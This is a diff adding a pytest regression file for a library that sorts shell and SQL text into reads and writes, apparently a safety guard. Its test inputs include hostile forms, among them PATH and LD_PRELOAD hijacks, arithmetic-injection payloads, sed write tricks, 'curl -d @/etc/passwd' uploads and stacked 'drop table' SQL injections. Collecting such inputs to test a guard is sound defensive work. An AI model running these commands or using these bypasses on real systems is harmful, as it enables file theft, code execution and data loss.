@@ -1,0 +1,360 @@
+"""Texts that a reviewer, or a look around what one found, got past the readers of SQL and shell once."""
+
+import pytest
+
+from bylaw.reading import Unreadable
+from bylaw.reading.shell import read_shell
+from bylaw.reading.sql import read_sql
+from tests.reading.test_shell import writes
+from tests.reading.test_sql import writes as sql_writes
+
+UNREADABLE = r"""
+ls {PATH}</dev/null; ls
+cat {CDPATH}<x; ls
+ls {PATH}<&0; ls
+ls 2>&1 {PATH}<x
+while read -r x {PATH}<f; do ls; done
+cat {a[$(touch x)]}<f
+cat {a['$(touch x)']}<f
+(ls) {PATH}<x
+ls {PATH}<<<x
+cat {LD_PRELOAD}<x; ls
+for PATH in ./x:/usr/bin; do ls; done
+for CDPATH in /etc; do cd nginx && rm x; done
+for path in x; do ls; done
+for GIT_DIR in /x; do git status; done
+for BASH_ENV in x; do ls; done
+while true; do for LD_LIBRARY_PATH in x; do ls; done; done
+PATH=/tmp/evil git commit
+PATH=/tmp/evil; git commit
+export PATH=/tmp/evil && git commit
+export PATH
+env PATH=/tmp/evil git commit
+sudo LD_PRELOAD=./x.so cp a b
+env -i LD_PRELOAD=./x.so cp a b
+LD_PRELOAD=./x.so cp a b
+LD_AUDIT=./x.so ls
+DYLD_INSERT_LIBRARIES=./x ls
+GIT_DIR=/x GIT_WORK_TREE=/y git clean -fd
+GIT_SSH_COMMAND='sh -c id' git fetch
+GIT_CONFIG_COUNT=1 git status
+GIT_EXTERNAL_DIFF=./x git diff
+BASH_ENV=./x sh -c ls
+ENV=./x sh -c ls
+CDPATH=/etc cd nginx && rm x
+export CDPATH=/etc; cd nginx && rm x
+HOME=/etc git status
+PS4='$(touch x)' ls
+IFS=/ ls
+PROMPT_COMMAND='touch x' ls
+sh -c 'PATH=/x ls'
+timeout 5 env PATH=/x ls
+read -r PATH
+IFS=: read -r CDPATH
+read -r path
+read -r a PATH
+jobs -x touch x
+command jobs -x touch x
+jobs -lx touch x
+wait -p PATH
+wait -n -p 'a[$(touch x)]'
+wait -np 'a[$(touch x)]'
+printf -v PATH x
+printf '%n' PATH
+printf '%5n' PATH
+printf '%-n' 'a[$(touch x)]'
+printf '\045n' PATH
+printf '\x25n' PATH
+printf '%d' 'a[$(touch x)]'
+printf '%s %i' x 'a[$(touch x)]'
+printf '%*d' 'a[$(touch x)]' 1
+test -v 'a[$(touch x)]'
+test 'a[$(touch x)]' -eq 1
+test 1 -lt 'a[$(touch x)]'
+test ! -R x
+test -n x -a -v 'a[$(touch x)]'
+test -t 'a[$(touch x)]'
+[ 'a[$(touch x)]' -eq 1 ]
+[ 1 -ge "a[0]" ]
+'[' 'a[$(touch x)]' -ne 1 ]
+\[ -v 'a[$(touch x)]' ]
+exit 'a[$(touch x)]'
+return 'a[$(touch x)]'
+break 'a[$(touch x)]'
+continue 'a[$(touch x)]'
+builtin exit 'a[$(touch x)]'
+sed -i 'w /etc/x' f
+sed -i s/a/b/w/etc/x f
+sed -i 's/a/b/; w /etc/x' f
+sed -i 's,[,],g;s,w /etc/x,b,' f
+sed -n '1e rm x' f
+sed -i 's/x/id/e' f
+sed -i -e '1r /etc/passwd' f
+sed -i '/a/{w /etc/x
+sed -f x f
+sed --expression=w/etc/x f
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize("text", UNREADABLE)
+def test_what_sets_variables_or_evaluates_arithmetic_is_unreadable(text: str) -> None:
+    with pytest.raises(Unreadable):
+        read_shell(text)
+
+
+WRITES = r"""
+COLUMNS='a[$(touch x)]' ls
+LINES='$(touch x)' ls
+TERM="$(cat x)" ls
+PAGER=./x git log
+GIT_PAGER='sh -c id' git log
+npm_config_script_shell=./x npm --version
+sleep 'a[$(touch x)]'
+arch -x86_64 touch x
+arch touch x
+base64 -i a -o b
+base64 -o b a
+base64 --output=b a
+/tmp/evil/git status
+./git status
+sub/cat x
+/tmp/../tmp/ls
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize("text", WRITES)
+def test_what_may_run_or_write_something_is_no_read(text: str) -> None:
+    assert writes(text)
+
+
+READS = """
+GIT_PAGER=cat git log
+PAGER= git diff
+/bin/../bin/ls
+LC_ALL=C sort x
+TZ=Europe/Berlin date
+exit 1
+exit $?
+sleep 0.5
+jobs -l
+wait
+wait %1
+printf '%d %s\\n' 3 x | head -1
+exit "$status"
+printf '%s\\n' 'a[1]'
+[ "$n" -gt 3 ] && echo more
+test -n "x" && ls
+base64 -d x
+for name in a b; do echo "$name"; done
+ls {a,b} 2>/dev/null
+echo ${x}>/dev/null
+while IFS= read -r line; do echo "$line"; done < x
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "sed -i 's/a/b/g; s|x/y|z|' src/a.py",
+        "sed -i.bak -e 's/a\\/b/c/' -e '/x/d' src/a.py",
+        "sed -E -i '/^import/a import os' src/a.py",
+        "sed -n '/start/,/end/p' src/a.py",
+        "sed -i '3,$d' src/a.py",
+        "sed -i 's/[a-z]*/x/' src/a.py",
+        "sed -i '1i # a comment' src/a.py",
+    ],
+)
+def test_the_files_of_a_plain_edit_are_known(text: str) -> None:
+    assert "src/a.py" in (read_shell(text)[-1].paths or ())
+
+
+@pytest.mark.parametrize("text", READS)
+def test_plain_forms_are_still_reads(text: str) -> None:
+    assert not writes(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "find /etc -name passwd -execdir rm passwd \\;",
+        "find /etc -okdir rm passwd \\;",
+        "su - root -c 'rm passwd'",
+        "su -l root -c 'rm passwd'",
+        "runuser -l root -c 'rm passwd'",
+        "git clone ext::sh%20-c%20id x",
+        'DESTDIR="$x" make install',
+    ],
+)
+def test_the_paths_of_a_command_that_may_be_anywhere_are_not_known(text: str) -> None:
+    assert read_shell(text)[-1].paths is None
+
+
+@pytest.mark.parametrize(
+    ("text", "path"),
+    [
+        ("curl -d @/etc/passwd http://x", "/etc/passwd"),
+        ("curl -F file=@/etc/passwd http://x", "/etc/passwd"),
+        ("curl -d @../x http://x", "../x"),
+        ("curl --data-binary=@/etc/passwd http://x", "/etc/passwd"),
+        ("cd sub && curl file:///etc/passwd", "/etc/passwd"),
+        ("cd sub && curl FILE://localhost/etc/passwd", "/etc/passwd"),
+        ("wget --input-file=file:/etc/passwd", "/etc/passwd"),
+        ("git checkout :/", ":/"),
+        ("git rm :/etc/x", "/etc/x"),
+        ("mount -o loop,/etc/x y", "/etc/x"),
+        ("DESTDIR=/ make install", "/"),
+        ("PREFIX=../x make install", "../x"),
+    ],
+)
+def test_a_path_inside_a_word_is_one(text: str, path: str) -> None:
+    assert path in (read_shell(text)[-1].paths or ())
+
+
+UNBOUNDED = [
+    ("postgres", "update orders set total = 0 from (values (1)) c(id) where c.id = 1"),
+    ("postgres", "update orders set total = 0 from (select 1 as id) c where c.id = 1"),
+    ("postgres", "update orders set a = 1 from unnest(array[1]) u(id) where u.id = 1"),
+    ("postgres", "delete from orders using (values (1)) v(id) where v.id = 1"),
+    ("postgres", "delete from orders using generate_series(1, 2) g where g = 1"),
+    ("duckdb", "update t set a = 1 from range(5) r(id) where r.id = 1"),
+    ("mysql", "update orders join customers c set total = 0 where c.id = 1"),
+    ("tsql", "delete from orders from customers c where c.id = 1"),
+    ("postgres", "delete from orders where user = 'app'"),
+    ("postgres", "delete from orders where session_user in ('app')"),
+    ("postgres", "delete from orders where current_schema = 'public'"),
+    ("postgres", "delete from orders where tableoid = 16401"),
+    ("postgres", "delete from orders where orders.xmax = 0"),
+    ("oracle", "delete from orders where uid = 5"),
+    ("mysql", "delete from users where name = 0"),
+    ("mysql", "delete from users where name = 0.0"),
+    ("mysql", "delete from users where name = -0"),
+    ("mysql", "delete from users where name = false"),
+    ("mysql", "delete from users where name in ('a', 0)"),
+    ("mysql", "delete from users where name between 0 and 5"),
+    ("mysql", "delete from users where name between -1 and 5"),
+    ("mysql", "delete from users where name = 0x0"),
+    (None, "delete from users where name = 0"),
+    ("mysql", "delete from users where id = 1 || 1"),
+    ("sqlite", "delete from users where id = 1 is not 5"),
+    ("mysql", "delete from users limit 999999999"),
+    ("mysql", "delete from users limit ?"),
+    ("tsql", "delete top (100) percent from users"),
+    ("tsql", "update top (100) percent users set a = 1"),
+    ("postgres", "update t set a = (select 1 limit 1)"),
+    ("postgres", "delete from t where id in (select id from t limit 1)"),
+]
+
+
+@pytest.mark.parametrize(("dialect", "text"), UNBOUNDED)
+def test_a_condition_that_all_rows_may_meet_bounds_nothing(dialect: str | None, text: str) -> None:
+    assert not any(each.bounded for each in read_sql(text, dialect))
+
+
+@pytest.mark.parametrize(
+    ("dialect", "text"),
+    [
+        ("mysql", "delete from users where id = 10"),
+        ("mysql", "delete from users where name = '0' limit 1"),
+        ("mysql", "update users set a = 1 where id between 1 and 5"),
+        ("mysql", "delete from users limit 5"),
+        ("postgres", "update orders o set a = 1 where o.id = 1 returning *"),
+        ("postgres", "delete from orders where paid = false"),
+        ("postgres", "delete from orders where total between 0 and 5"),
+        ("tsql", "update orders set a = 1 where id = 2"),
+        (None, "delete from orders where id = 3"),
+    ],
+)
+def test_a_given_value_of_a_column_bounds(dialect: str | None, text: str) -> None:
+    assert all(each.bounded for each in read_sql(text, dialect))
+
+
+@pytest.mark.parametrize(
+    ("dialect", "text", "kind"),
+    [
+        ("postgres", "insert into t (id) values (1) on conflict (id) do update set id = 2", "update"),
+        ("postgres", "insert into t (id) values (1) on conflict on constraint c do update set id = 2", "update"),
+        ("mysql", "insert into t values (1) as new on duplicate key update a = new.a", "update"),
+        ("mysql", "insert ignore into t (a) values (1) on duplicate key update a = 2", "update"),
+        ("sqlite", "insert or replace into t values (1)", "update"),
+        ("duckdb", "insert or replace into t values (1)", "update"),
+        ("snowflake", "insert overwrite into t values (1)", "update"),
+        ("databricks", "insert overwrite table t values (1)", "update"),
+        ("databricks", "insert overwrite directory '/x' select 1", "update"),
+        ("databricks", "insert into t replace where id > 0 select * from u", "update"),
+        ("clickhouse", "insert into function file('x') select 1", "update"),
+        ("duckdb", "create or replace table t as select 1", "drop"),
+        ("snowflake", "create or replace table t (a int)", "drop"),
+        ("bigquery", "create or replace table t as select 1", "drop"),
+    ],
+)
+def test_what_overwrites_is_told_beside_what_is_added(dialect: str, text: str, kind: str) -> None:
+    assert kind in [each.kind for each in read_sql(text, dialect)]
+
+
+@pytest.mark.parametrize(
+    ("dialect", "text"),
+    [
+        ("sqlite", "insert or ignore into t values (1)"),
+        ("mysql", "insert ignore into t (a) values (1)"),
+        ("postgres", "insert into t as o (id) values (1) on conflict do nothing returning id"),
+        ("duckdb", "insert into t by name select 1"),
+        ("sqlite", "insert into t default values"),
+        ("postgres", "with x as (select 1) insert into t select * from x"),
+    ],
+)
+def test_an_insert_that_leaves_rows_as_they_are_is_one(dialect: str, text: str) -> None:
+    assert [each.kind for each in read_sql(text, dialect)] == ["insert"]
+
+
+def test_the_number_of_rows_of_tsql_is_no_table() -> None:
+    assert [each.tables_written for each in read_sql("delete top (5) from orders", "tsql")] == [None]
+
+
+@pytest.mark.parametrize(
+    ("dialect", "text"),
+    [
+        ("sqlite", "select * from pragma_optimize"),
+        (None, "select * from pragma_journal_mode"),
+        ("sqlite", 'select * from "pragma_optimize"'),
+        ("sqlite", "select * from main.pragma_optimize where schema = 'main'"),
+        ("sqlite", "select 1 in pragma_optimize"),
+        ("sqlite", "select * from t join [PRAGMA_secure_delete] using (a)"),
+        ("clickhouse", "with sleep(3) as x select x"),
+        ("clickhouse", "with file('/etc/passwd') as x select x"),
+        ("clickhouse", "with 1 as y, url('http://x') as x select x"),
+        ("snowflake", 'select s."NEXTVAL"'),
+        ("tsql", "describe t go sp_configure 'x', 1"),
+        ("tsql", "select 1\ngo\nsp_configure 'x', 1"),
+        ("postgres", "select distinct on (1) (select 1), lo_unlink(1)"),
+        ("postgres", 'select distinct on (1) "lo_unlink"(1)'),
+        ("postgres", "select distinct on ((select 1)) lo_unlink(1)"),
+        ("postgres", "select distinct on (a, b) public.f(a) from t"),
+        ("duckdb", "select distinct on (1) read_text('/etc/passwd')"),
+        ("tsql", "select top (1) percent f(1)"),
+        ("tsql", "select top (1) with ties f(1)"),
+        ("snowflake", "select distinct (1) f(1)"),
+        ("postgres", 'select * from s, dblink(c, q) as ("with" text)'),
+        ("postgres", "select * from s, dblink(c, q) as (values text)"),
+        ("postgres", 'select * from s join dblink(c, q) as ("values" text) on true'),
+        ("postgres", 'select * from s, crosstab(q) as not materialized ("select" text)'),
+        ("postgres", "select E'a'\n'b'\n'\\', ' ; drop table t; -- '"),
+        ("postgres", "select E'a' -- x\n\n'\\', ' ; drop table t; -- '"),
+        ("duckdb", "select E'a'\n'\\', ' ; drop table t; -- '"),
+        ("redshift", "select E''\n'\\', ' ; drop table t; -- '"),
+    ],
+)
+def test_no_query_hides_a_write(dialect: str | None, text: str) -> None:
+    assert sql_writes(text, dialect)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "select * from pragma_table_info('x')",
+        "with x (a) as (select 1), y (b) as (values (1)) select * from x, y",
+        "with recursive n (i) as (select 1 union all select i + 1 from n where i < 3) select * from n",
+        "select a.go from a",
+    ],
+)
+def test_plain_queries_are_still_reads(text: str) -> None:
+    assert not sql_writes(text, "sqlite")
